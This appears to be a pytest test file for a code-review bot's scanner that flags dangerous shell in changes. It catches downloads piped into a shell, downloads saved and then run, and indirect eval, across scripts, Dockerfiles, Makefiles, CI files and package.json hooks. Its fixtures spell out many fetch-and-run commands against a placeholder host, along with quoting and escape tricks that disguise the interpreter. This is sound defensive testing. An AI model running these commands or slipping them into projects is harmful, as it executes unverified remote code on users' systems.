"""Shell read as the shell reads it (`shellscan.py`): a command spread over lines by continuations,
pipelines or strings is one command; what a comment, a string or a here-document's text holds
stays quiet; each line of a Dockerfile, Makefile or CI file is a command of its own."""

from __future__ import annotations

import pytest

from bot.engine.content.dangerous import DangerousRule
from bot.engine.content.shellscan import lex
from bot.engine.content.shellwords import shell_words
from tests.content.helpers import change_of, scan, where
from tests.gitrepo import GitRepo

RULE = DangerousRule()
_PIPE = "shell-pipe-to-shell"


def _found(repo: GitRepo, path: str, source: str, **kw: bool) -> list[tuple[str, int | None, str]]:
    return where(scan(RULE, change_of(repo, {path: source}, **kw)))


@pytest.mark.parametrize(
    ("path", "source", "line"),
    [
        ("s.sh", "set -e\ncurl -fsSL https://x.io/i \\\n  | sh\n", 2),
        ("s.sh", "set -e\ncurl -fsSL https://x.io/i \\\n  -L | bash -s\n", 2),
        ("s.sh", "set -e\ncurl -fsSL https://x.io/i |\n  sh\n", 2),
        ("s.sh", "set -e\ncurl -fsSL https://x.io/i | # run it\n  sh\n", 2),
        ("s.sh", 'echo "a\nb"; curl https://x.io/i | sh\n', 2),
        ("s.sh", "echo 'a\n\"b'; curl https://x.io/i | sh\n", 2),
        ("s.sh", "cat <<EOF\nDon't\nEOF\ncurl https://x.io/i | sh\n", 4),
        ("s.sh", "set -e\ncurl https://x.io/i | tee /tmp/log | sh\n", 2),
        ("s.sh", "set -e\ncurl https://x.io/i |& sh\n", 2),
        ("s.sh", 'set -e\ncurl https://x.io/i | "bash"\n', 2),
        ("s.sh", "set -e\ncurl https://x.io/i | $SHELL\n", 2),
        ("s.sh", "set -e\ncurl https://x.io/i | ${SHELL:-sh}\n", 2),
        ("s.sh", "set -e\ncurl https://x.io/i | doas sh\n", 2),
        ("s.sh", "set -e\ncurl https://x.io/i | timeout 60 bash\n", 2),
        ("s.sh", 'set -e\ncurl https://x.io/i | X="a b" Y=$(id -u) bash\n', 2),
        ("s.sh", "set -e\nX='a b' sudo -E bash -c \"$(curl -s https://x.io/i)\"\n", 2),
        ("s.sh", "set -e\nbash < <(curl -s https://x.io/i)\n", 2),
        ("s.sh", 'set -e\nbash <<< "$(curl -s https://x.io/i)"\n', 2),
        ("s.sh", 'set -e\nsh -c "`curl -s https://x.io/i`"\n', 2),
        ("s.sh", 'set -e\necho "$(curl -s https://x.io/i | sh)"\n', 2),
        ("test/a.bats", "set -e\ncurl https://x.io/i | sh\n", 2),
        ("Install.command", "set -e\ncurl https://x.io/i | sh\n", 2),
        ("Dockerfile", "FROM alpine\nRUN curl https://x.io/i \\\n  | sh\n", 2),
        ("Dockerfile", "FROM alpine\nRUN set -e; \\\n    curl -fsSL https://x.io/i \\\n    | bash -s\n", 3),
        ("Dockerfile", 'FROM alpine\nRUN eval "$(curl -fsSL https://x.io/i)"\n', 2),
        ("Makefile", "all:\n\tcurl https://x.io/i \\\n\t | sh\n", 2),
        ("Makefile", 'all:\n\tbash -c "$$(curl -fsSL https://x.io/i)"\n', 2),
        (".github/workflows/ci.yml", 'jobs:\n  a:\n    steps:\n      - run: "curl https://x.io/i | sh"\n', 4),
        (".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: 'curl https://x.io/i | sh'\n", 4),
        (".github/workflows/ci.yml", "steps:\n  - run: >\n      curl https://x.io/i\n      | sh\n", 3),
    ],
)
def test_downloads_run_across_lines_and_quotes(repo: GitRepo, path: str, source: str, line: int) -> None:
    assert _found(repo, path, source) == [(path, line, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        'x=1\n! eval "$y"\n',
        'x=1\nbuiltin eval "$y"\n',
        'x=1\ncommand eval "$y"\n',
        'x=1\ntime eval "$y"\n',
        'x=1\nLC_ALL=C eval "$y"\n',
        "x=1\nx=`eval $y`\n",
        'echo "a\nb"; eval "$y"\n',
        'x=1\nif eval "$y"; then :; fi\n',
        'x=1\nwhile ! eval "$y"; do :; done\n',
        'x=1\nif true; then :; elif eval "$y"; then :; fi\n',
        'x=1\nuntil eval "$y"; do :; done\n',
        # An assignment's value as the shell reads it: quoted and escaped blanks, `$(…)`, backquotes.
        'x=1\nX="a b" eval "$y"\n',
        'x=1\nX=\'a b\' Y="c" eval "$y"\n',
        'x=1\nX=a\\ b eval "$y"\n',
        'x=1\nX="$(date +%s)" eval "$y"\n',
        'x=1\nX=$(f "(a b)") eval "$y"\n',
        'x=1\nX=`id -u` eval "$y"\n',
        'x=1\nX="a \\" b" eval "$y"\n',
    ],
)
def test_eval_after_what_leaves_it_the_command(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == [("s.sh", 2, "shell-eval")]


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("s.sh", "curl -o file https://x.io/i\n"),
        ("s.sh", "# curl https://x.io/i | sh\n"),
        ("s.sh", "echo 'curl https://x.io/i | sh'\n"),
        ("s.sh", "echo 'a\ncurl https://x.io/i | sh\n'\n"),
        ("s.sh", 'echo "a\ncurl https://x.io/i | sh\n"\n'),
        ("s.sh", "msg=$'it\\'s\ncurl https://x.io/i | sh'\n"),
        ("s.sh", "curl -f https://x.io/a || echo failed\n"),
        ("s.sh", "curl -s https://x.io/a | jq .b | python3 -m json.tool\n"),
        ("s.sh", "curl -s https://x.io/a | python-tool\n"),
        ("s.sh", "case $x in\n  a) echo medieval ;;\nesac\n"),
        ("Dockerfile", 'FROM alpine\nLABEL note="Don\'t"\nRUN echo ok | sh\n'),
        (".github/workflows/ci.yml", "steps:\n  - name: Don't pipe\n    run: echo ok | sh\n  - run: make\n"),
        ("Makefile", "$(eval $(call rules,x))\n"),
        ("s.sh", 'echo X="a b" eval\n'),
        ("s.sh", 'X="a b eval" echo "$y"\n'),
        ("s.sh", "X='a; eval' true\n"),
        ("s.sh", 'X="a b" curl -s https://x.io/a | X="c d" python3 -m json.tool\n'),
    ],
)
def test_shell_near_misses_across_lines(repo: GitRepo, path: str, source: str) -> None:
    assert _found(repo, path, source) == []


def test_a_continuation_from_a_line_the_change_keeps(repo: GitRepo) -> None:
    base = {"s.sh": "set -e\ncurl -fsSL https://x.io/i \\\n  | tee log\n"}
    head = {"s.sh": "set -e\ncurl -fsSL https://x.io/i \\\n  | sh\n"}
    assert where(scan(RULE, change_of(repo, head, base))) == [("s.sh", 3, _PIPE)]
    other = GitRepo.create(repo.root.parent / "other")
    assert where(scan(RULE, change_of(other, head, base, texts=False))) == []  # the hunk alone has no curl


def test_without_the_new_text_each_hunk_is_read_alone(repo: GitRepo) -> None:
    base = {"s.sh": "set -e\n\n"}
    head = {"s.sh": "set -e\ncurl https://x.io/i \\\n  | sh\n\n"}
    assert where(scan(RULE, change_of(repo, head, base, texts=False))) == [("s.sh", 2, _PIPE)]


def test_the_view_joins_one_command_and_keeps_every_offset() -> None:
    data = b'curl x \\\n | sh # c\ncat <<-\'E\'\n\tit\'s\n\tE\necho "$(a "b")"\n'
    lexed = lex(data, spanning=True)
    assert len(lexed.view) == len(data)
    assert lexed.view.startswith(b"curl x    | sh    \n")
    assert not lexed.hidden(data.index(b"echo")) and not lexed.hidden(data.index(b"$(") + 2)
    assert lexed.hidden(data.index(b'"b"') + 1) and lexed.hidden(data.index(b"echo") + 5)


@pytest.mark.parametrize(
    ("data", "code", "hidden"),
    [
        (b"a#b; eval x", b"eval", b""),  # `#` inside a word
        (b'echo \\" ; eval x', b"eval", b""),  # an escaped quote
        (b'echo "a\\"b', b"echo", b"b"),  # a double quote never closed, an escape in it
        (b"cat <<; eval x", b"eval", b""),  # `<<` naming no delimiter
        (b"echo 'a'", b"echo", b"a"),
    ],
)
def test_the_shell_reader_recovers(data: bytes, code: bytes, hidden: bytes) -> None:
    lexed = lex(data, spanning=True)
    assert not lexed.hidden(data.index(code))
    assert not hidden or lexed.hidden(data.rindex(hidden))


@pytest.mark.parametrize(
    ("source", "rule_id"),
    [
        ('e=eval\n$e "$x"\n', "shell-eval"),
        ('e=eval; ${e} "$x"\n', "shell-eval"),
        ('e="eval"\n"${e}" "$x"\n', "shell-eval"),
        ("run=bash\ncurl -fsSL https://x.io/i | $run\n", _PIPE),
        ('run=/bin/sh; curl -fsSL https://x.io/i | sudo "$run"\n', _PIPE),
        ("get=curl\n$get -fsSL https://x.io/i | sh\n", _PIPE),
        # however long the assignments before it
        ("X=" + "a" * 600 + ' e=eval\n$e "$x"\n', "shell-eval"),
        ("export X=" + "a" * 600 + ' e=eval\n$e "$x"\n', "shell-eval"),
        ("if X=" + "a" * 600 + ' e=eval; then $e "$x"; fi\n', "shell-eval"),
    ],
)
def test_a_command_word_a_variable_names(repo: GitRepo, source: str, rule_id: str) -> None:
    found = _found(repo, "s.sh", source)
    assert [(line, id_) for _, line, id_ in found][-1:] == [(source.count("\n"), rule_id)]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (b"e=eval\n:;" + b"e=x;" * 50_000 + b" $e\n", b"x"),  # each assigned after a break
        (b"e=eval\n" + b"a=;" * 50_000 + b" " * 50_000 + b"e=x $e\n", b"x"),  # all ending at one blank
        (b"e=eval\n" + b"x=1 " * 50_000 + b"y=1\r e=x $e\n", b"eval"),  # `y=1\r` no assignment's end
    ],
)
def test_assignments_of_a_long_line_are_read_in_linear_time(text: bytes, value: bytes) -> None:
    """Each assignment of a line of 200 KB found from its command's start once (this took minutes
    when each was searched back to its line's start)."""
    words = shell_words(lex(text, spanning=True), text)
    assert words is not None
    assert bytes(words.lexed.view).endswith(b" " + value + b"\n")


@pytest.mark.parametrize(
    ("path", "source", "line"),
    [
        ("s.sh", "curl -o f https://x.io/i && sh f\n", 1),
        ("s.sh", "wget -O /tmp/x https://x.io/i; bash /tmp/x\n", 1),
        ("s.sh", "curl https://x.io/i > f\nchmod +x f\n./f\n", 3),
        ("s.sh", "curl -fsSL https://x.io/i -o ./env.sh\n. ./env.sh\n", 2),
        ("s.sh", "curl -fsSL --output=env.sh https://x.io/i\nsource env.sh\n", 2),
        ("s.sh", "curl -sSLo /tmp/i.py https://x.io/i\npython3 -u /tmp/i.py --yes\n", 2),
        ("s.sh", "wget --output-document /tmp/i https://x.io/i\nsudo -E /tmp/i\n", 2),
        ("s.sh", 'f=/tmp/i.sh\ncurl -o "$f" https://x.io/i\nsh "$f"\n', 3),
        ("s.sh", "curl -O https://x.io/get.sh\nbash get.sh\n", 2),
        ("s.sh", "curl --remote-name https://x.io/get.sh?v=1\nbash get.sh\n", 2),
        ("s.sh", "curl --output /tmp/i https://x.io/i\n/tmp/i\n", 2),
        ("s.sh", "wget https://x.io/get.sh\nif sh get.sh; then :; fi\n", 2),
        ("s.sh", "wget --output-document=/tmp/i.rb https://x.io/i\nruby /tmp/i.rb\n", 2),
        ("Dockerfile", "FROM alpine\nRUN curl -o /i.sh https://x.io/i && sh /i.sh\n", 2),
        (".github/workflows/ci.yml", "steps:\n  - run: curl -o i.sh https://x.io/i\n  - run: bash i.sh\n", 3),
        # a checksum or signature tool that checks nothing: it prints a sum, imports a key, signs
        ("s.sh", "curl -o f https://x.io/i\nsha256sum f\nsh f\n", 3),
        ("s.sh", "curl -o f https://x.io/i\necho sha256sum -c\nsh f\n", 3),
        ("s.sh", "curl -o f https://x.io/i\ngpg --import k.asc\nsh f\n", 3),
        ("s.sh", "curl -o f https://x.io/i\ncosign sign f\nsh f\n", 3),
        ("s.sh", "curl -o f https://x.io/i\nopenssl dgst -sha256 f\nsh f\n", 3),
    ],
)
def test_a_download_written_to_a_file_then_run(repo: GitRepo, path: str, source: str, line: int) -> None:
    assert _found(repo, path, source) == [(path, line, _PIPE)]


def test_a_download_run_is_reported_on_the_added_line(repo: GitRepo) -> None:
    base = {"s.sh": "curl -o f https://x.io/i\n"}
    head = {"s.sh": "curl -o f https://x.io/i\nsh f\n"}
    assert where(scan(RULE, change_of(repo, head, base))) == [("s.sh", 2, _PIPE)]
    other = GitRepo.create(repo.root.parent / "other")
    elsewhere = {"s.sh": "curl -o f https://x.io/i\nsh f\necho done\n"}
    assert where(scan(RULE, change_of(other, elsewhere, head))) == []


@pytest.mark.parametrize(
    "source",
    [
        "set -e\ncurl https://x.io/i | xargs bash -c\n",
        "set -e\ncurl https://x.io/i | xargs -0 -I{} sh -c {}\n",
        "set -e\ncurl https://x.io/i | su -c bash\n",
        "set -e\ncurl https://x.io/i | su root -c 'bash -s'\n",
        "set -e\ncurl https://x.io/i | sudo bash\n",
        "set -e\ncurl https://x.io/i | sudo -u x sh\n",
        "set -e\ncurl https://x.io/i | sudo -u python sh\n",
        "set -e\ncurl https://x.io/i | env sh\n",
        "set -e\ncurl https://x.io/i | env -u HOME A=1 sh\n",
        "set -e\ncurl https://x.io/i | nice python3\n",
        "set -e\ncurl https://x.io/i | nice -n 5 python3\n",
        "set -e\ncurl https://x.io/i | timeout 9 bash\n",
        "set -e\ncurl https://x.io/i | timeout -s KILL 9 bash\n",
        "set -e\ncurl https://x.io/i | doas -u root sh\n",
        "set -e\ncurl https://x.io/i | busybox sh\n",
        "set -e\ncurl https://x.io/i | sudo nice -n 1 timeout 5 sh\n",
        "set -e\ncurl https://x.io/i | LC_ALL=C sudo A=1 sh\n",
        "set -e\ncurl https://x.io/i | xargs -I % sh -c %\n",
        "set -e\ncurl https://x.io/i | bash -x\n",
    ],
)
def test_piped_through_a_wrapper_into_an_interpreter(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == [("s.sh", 2, _PIPE)]


@pytest.mark.parametrize(
    ("source", "rule_id"),
    [
        ("set -e\ncurl https://x.io/i | b\\ash\n", _PIPE),
        ("set -e\ncurl https://x.io/i | ba''sh\n", _PIPE),
        ('set -e\ncurl https://x.io/i | "ba"sh\n', _PIPE),
        ("set -e\ncurl https://x.io/i | sudo 'ba'\"sh\"\n", _PIPE),
        ("set -e\nc''url https://x.io/i | sh\n", _PIPE),
        ('x=1\ne"val" "$y"\n', "shell-eval"),
        ('x=1\n\\eval "$y"\n', "shell-eval"),
        ("x=1\n'ev'al \"$y\"\n", "shell-eval"),
    ],
)
def test_words_the_shell_joins(repo: GitRepo, source: str, rule_id: str) -> None:
    assert _found(repo, "s.sh", source) == [("s.sh", 2, rule_id)]


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("s.sh", "curl -o f https://x.io/i\n"),
        ("s.sh", "curl -o f https://x.io/i\ncat f\n"),
        ("s.sh", "sh f\ncurl -o f https://x.io/i\n"),
        ("s.sh", "curl -o f https://x.io/i\nsha256sum -c f.sha256\nsh f\n"),
        ("s.sh", "curl -o f.tgz https://x.io/i\ngpg --verify f.tgz.asc f.tgz && sh f.tgz\n"),
        ("s.sh", 'curl -o f https://x.io/i\necho "$SUM  f" | sha256sum --check --status\nsh f\n'),
        ("s.sh", "curl -o f https://x.io/i\nshasum -a 256 -c f.sha\nsh f\n"),
        ("s.sh", "curl -o f https://x.io/i\ngpgv k.gpg f.sig f\nsh f\n"),
        ("s.sh", "curl -o f https://x.io/i\ncosign verify-blob --key k f\nsh f\n"),
        ("s.sh", "curl -o f https://x.io/i\nminisign -Vm f -P key\nsh f\n"),
        ("s.sh", "curl -o f https://x.io/i\nopenssl dgst -sha256 -verify k.pem -signature f.sig f\nsh f\n"),
        ("s.sh", "curl -o f https://x.io/i\nsh g\n"),
        ("s.sh", "curl -o f https://x.io/i\necho sh f\n"),
        ("s.sh", "echo bash\n"),
        ("s.sh", "echo 'ba''sh'\n"),
        ("s.sh", 'e=echo\n$e "$x"\n'),
        ("s.sh", 'e=eval\necho "$e"\n'),
        ("s.sh", 'e=eval\ne=echo\n$e "$x"\n'),
        ("s.sh", '$e "$x"\n'),
        ("s.sh", "curl https://x.io/i | xargs rm\n"),
        ("s.sh", "curl https://x.io/i | xargs sh install.sh\n"),
        ("s.sh", "curl https://x.io/i | xargs -I % sh -c 'echo %'\n"),
        ("s.sh", "curl https://x.io/i | sh install.sh\n"),
        ("s.sh", "curl https://x.io/i | sh -c 'cat; echo'\n"),
        ("s.sh", "curl https://x.io/i | sudo\n"),
        ("s.sh", "curl -o f https://x.io/i\nsu -c f\n"),
        ("s.sh", "curl -o f https://x.io/i\ntimeout f\n"),
        ("s.sh", "curl -o f https://x.io/i\nf\n"),
        ("s.sh", "curl -o f https://x.io/i\nsh -c f\n"),
        ("s.sh", 'curl -o f https://x.io/i\necho "sh f now"\n'),
        ("s.sh", "curl -o- https://x.io/i > /dev/null 2>/tmp/log\nsh /tmp/log\n"),
        ("s.sh", 'echo "a; e=eval"\n$e "$x"\n'),
        ("s.sh", 'e=eval\necho "a $e b"\n'),
        ("s.sh", 'echo e=eval\n$e "$x"\n'),
        ("s.sh", "echo X=" + "a" * 600 + ' e=eval\n$e "$x"\n'),
        ("s.sh", "wget https://x.io/foo.deb && dpkg -i foo.deb\n"),
        ("s.sh", "curl -o /tmp/x.tgz https://x.io/x.tgz && tar xzf /tmp/x.tgz -C /opt\n"),
        (
            "s.sh",
            'curl -fsSLo /usr/share/keyrings/k.gpg https://x.io/k\necho "deb [signed-by=/usr/share/keyrings/k.gpg] x"\n',
        ),
        ("Dockerfile", "FROM x\nRUN curl -o /i.sh https://x.io/i && echo /i.sh\n"),
        ("s.sh", 'e=eval\n$e/x "$y"\n'),
        ("s.sh", "echo \"a 'ev'al b\"\n"),
        ("s.sh", "curl https://x.io/i | xargs sh -c 'echo \"$0\"'\n"),
        ("s.sh", "curl https://x.io/i | sudo tee /etc/x\n"),
        ("s.sh", "curl https://x.io/i | sudo -u python tee x\n"),
        ("s.sh", "curl https://x.io/i | su -c 'cat > x'\n"),
        ("s.sh", "curl https://x.io/i | env sh -c 'cat > x'\n"),
        ("s.sh", "curl https://x.io/i | timeout 9 python3 -m json.tool\n"),
        ("s.sh", "echo 'e\"val\"'\n"),
        ("s.sh", 'echo "ba"sh\n'),
        ("README.md", "curl -o f https://x.io/i && sh f\ne=eval; $e x\ncurl x | sudo -u x sh\n"),
    ],
)
def test_shell_holes_near_misses(repo: GitRepo, path: str, source: str) -> None:
    assert _found(repo, path, source) == []


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("# escape=`\nFROM alpine\nRUN curl -fsSL https://x.io/i `\n  -L | sh\n", 3),
        ("# escape=`\nFROM alpine\nRUN e=sh; curl -fsSL https://x.io/i `\n  -L `\n  | $e\n", 3),
        (
            "# syntax=docker/dockerfile:1\n# Escape = `\nFROM alpine\nRUN curl https://x.io/i `  \n -L | bash\n",
            4,
        ),
        ("# escape=\\\nFROM alpine\nRUN curl https://x.io/i \\\n -L | sh\n", 3),
    ],
)
def test_a_dockerfile_joins_lines_with_its_escape_character(repo: GitRepo, source: str, line: int) -> None:
    assert _found(repo, "Dockerfile", source) == [("Dockerfile", line, _PIPE)]


def test_a_dockerfile_backquote_continues_nothing_without_the_directive(repo: GitRepo) -> None:
    source = "FROM alpine\n# escape=`\nRUN curl https://x.io/i `\n  -L | sh\n"  # after an instruction
    assert _found(repo, "Dockerfile", source) == []


def test_a_dockerfile_escape_directive_read_from_the_hunk_that_holds_the_first_line(repo: GitRepo) -> None:
    base = {"Dockerfile": "# escape=`\nFROM alpine\n"}
    head = {"Dockerfile": "# escape=`\nFROM alpine\nRUN curl https://x.io/i `\n  -L | sh\n"}
    assert (
        where(scan(RULE, change_of(repo, head, base, texts=False))) == []
    )  # the directive is not in the hunk
    other = GitRepo.create(repo.root.parent / "other")
    assert where(scan(RULE, change_of(other, head, texts=False))) == [("Dockerfile", 3, _PIPE)]


_PACKAGE = """{{
  "name": "x",
  "description": "curl x | sh",
  "scripts": {{
    "build": "tsc",
{script}
  }},
  "config": {{"scripts": {{"other": "curl https://x.io/i | sh"}}}}
}}
"""


@pytest.mark.parametrize(
    ("script", "key"),
    [
        ('    "postinstall": "curl -fsSL https://x.io/i | sh"', "postinstall"),
        ('    "preinstall": "node x.js && wget -qO- https://x.io/i | bash"', "preinstall"),
        ('    "setup": "curl -o i.sh https://x.io/i && sh i.sh"', "setup"),
        ('    "go": "e=eval; $e \\"$(cat x)\\""', "go"),
        ('    "go": "curl https://x.io/i | \\u0062ash"', "go"),
    ],
)
def test_package_json_scripts_are_shell(repo: GitRepo, script: str, key: str) -> None:
    found = scan(RULE, change_of(repo, {"package.json": _PACKAGE.format(script=script)}))
    assert [(v.path, v.line) for v in found] == [("package.json", 6)]
    assert f"`{key}`" in found[0].message
    assert ("npm install" in found[0].message) == key.endswith("install")


@pytest.mark.parametrize(
    "text",
    [
        _PACKAGE.format(script='    "test": "echo bash"'),
        '{"description": "curl x | sh", "scripts": {"test": "jest"}}\n',
        '{"scripts": {"test": "jest"}}\n',
        '{"scripts": {"test": "jest"}, "readme": "curl x | sh"}\n',
        '{"scripts": "curl x | sh"}\n',
        '{"scripts": {"test": "curl x | sh"\n',
        '[{"scripts": {"test": "curl x | sh"}}]\n',
    ],
)
def test_package_json_other_strings_are_not_shell(repo: GitRepo, text: str) -> None:
    assert _found(repo, "package.json", text) == []


def test_package_json_scripts_need_the_new_text_and_an_added_line(repo: GitRepo) -> None:
    base = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n'}
    head = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n\n'}
    assert where(scan(RULE, change_of(repo, head, base))) == []
    other = GitRepo.create(repo.root.parent / "other")
    changed = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n'}
    assert where(scan(RULE, change_of(other, changed, {"package.json": "{}\n"}, texts=False))) == []


def test_a_json_file_other_than_package_json_is_not_shell(repo: GitRepo) -> None:
    assert _found(repo, "other.json", '{"scripts": {"x": "curl x | sh"}}\n') == []
